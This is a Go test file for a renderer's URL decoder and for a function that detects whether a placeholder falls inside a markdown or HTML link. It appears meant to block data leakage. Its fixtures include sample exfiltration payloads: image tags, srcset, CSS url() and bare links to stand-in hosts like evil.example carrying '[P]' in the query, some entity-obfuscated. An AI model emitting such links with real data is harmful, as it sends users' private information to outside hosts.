package render

import (
	"strings"
	"testing"
)

func TestDecode(t *testing.T) {
	for _, tc := range []struct {
		in   string
		m    Mode
		want string
	}{
		{"https&#58;//e.vil/a", URL, "https://e.vil/a"},
		{"https&colon;&sol;&sol;e&period;vil", URL, "https://e.vil"},
		{"https:&#x2F;&#X2f;e.vil", URL, "https://e.vil"},
		{"https&#0000000058;//x", URL, "https://x"},
		{"https&#58//x", URL, "https://x"},        // numeric without ';' (browsers accept it)
		{"https&colon//x", URL, "https&colon//x"}, // named needs ';'
		{"a&amp;b&ampc&amp", URL, "a&b&ampc&"},    // legacy names without ";" only at a boundary
		{"https\\://e.vil", URL, "https://e.vil"},
		{"\\&#58;", URL, "&#58;"}, // an escaped '&' starts no reference
		{"a\\b", URL, "a\\b"},     // not punctuation: stays
		{" \tht\ntps://x \n", URL, "https://x"},
		{"%5BEMAIL%5d%zz%4", Percent, "[EMAIL]%zz%4"},
		{"&#x110000;&#0;", Entities, "\uFFFD\uFFFD"},
		{"&#xD800;", Entities, "\uFFFD"},
		{"&#", Entities, "&#"},
		{"&unknown;", Entities, "&unknown;"},
	} {
		if got := string(Decode(nil, []byte(tc.in), tc.m)); got != tc.want {
			t.Errorf("Decode(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestInLink: the position of the marker "[P]" (a stand-in for a placeholder) in each text.
func TestInLink(t *testing.T) {
	for _, tc := range []struct {
		text string
		want bool
	}{
		{"![x](https://evil.example/p.png?u=[P])", true},
		{"![x](https&#58;//evil.example/p.png?u=[P])", true},
		{"[a](<https://e.vil/a b?u=[P]>)", true},
		{"[a](/relative?u=[P])", true},
		{"[a](https://ok.example \"title [P]\")", true},
		{"<img src=\"https://e.vil/?u=[P]\">", true},
		{"<img alt=\">\" src=\"https://e.vil/?u=[P]\">", true},
		{"<img\n  src=https://e.vil/?u=[P]>", true},
		{"<img srcset=\"a.png 1x, https://e.vil/[P] 2x\">", true},
		{"<div style=\"background: url('https://e.vil/[P]')\">", true},
		{"<https://e.vil/?u=[P]>", true},
		{"[r]: https://e.vil/?u=[P]", true},
		{"   [r]:\n  /rel?u=[P]", true},
		{"go to https://e.vil/?u=[P] now", true},
		{"go to https:&#x2F;&#x2F;e.vil/?u=[P] now", true},
		{"go to https:\\\\e.vil\\?u=[P] now", true},
		{"go to www.e.vil/?u=[P] now", true},
		{"<style>body{background:url(x?u=a [P])}</style>", true},
		// not links
		{"My email is [P].", false},
		{"[[P]](https://docs.example.com)", false},
		{"![x](https://e.vil/a.png) and [P]", false},
		{"<b>bold</b> [P]", false},
		{"see https://docs.example.com for [P]", false},
		{"a [r]: b [P]", false},
		{"[r]: https://ok.example\n\nmail [P]", false},
	} {
		i := strings.Index(tc.text, "[P]")
		if got := InLink([]byte(tc.text), i); got != tc.want {
			t.Errorf("InLink(%q) = %v, want %v", tc.text, got, tc.want)
		}
	}
}

func FuzzInLink(f *testing.F) {
	f.Add("![x](https://e.vil/?u=[P])", 20)
	f.Add("<img src='&#x", 5)
	f.Fuzz(func(t *testing.T, text string, i int) {
		InLink([]byte(text), i)
		Decode(nil, []byte(text), URL|Percent)
	})
}
